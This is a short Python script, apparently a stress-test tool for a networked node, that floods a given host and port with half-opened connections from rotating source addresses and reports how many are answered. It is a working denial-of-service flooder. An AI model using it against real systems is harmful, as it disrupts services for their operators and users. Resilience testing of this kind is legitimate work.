"""Run as a program: begins handshakes with a node, as many and as fast as it can, and finishes none.

``flooder.py HOST PORT GROUPS AT_ONCE`` goes on until it is killed; once a second it prints how many were answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import sys
import time

from hostile import source

FIRST_GROUP = 2_000


async def _flood(host: str, port: int, groups: int, at_once: int) -> None:
    numbers = itertools.count()
    answered = 0
    said = time.monotonic()

    async def one() -> None:
        nonlocal answered, said
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                local = (source(FIRST_GROUP + next(numbers) % groups), 0)
                reader, writer = await asyncio.open_connection(host, port, local_addr=local)
                try:
                    writer.write(os.urandom(64))
                    async with asyncio.timeout(1):
                        answered += bool(await reader.read(65_536))
                finally:
                    writer.transport.abort()
            if time.monotonic() > said + 1:
                said = time.monotonic()
                print(answered, flush=True)

    await asyncio.gather(*(one() for _ in range(at_once)))


if __name__ == "__main__":
    asyncio.run(_flood(sys.argv[1], *map(int, sys.argv[2:])))
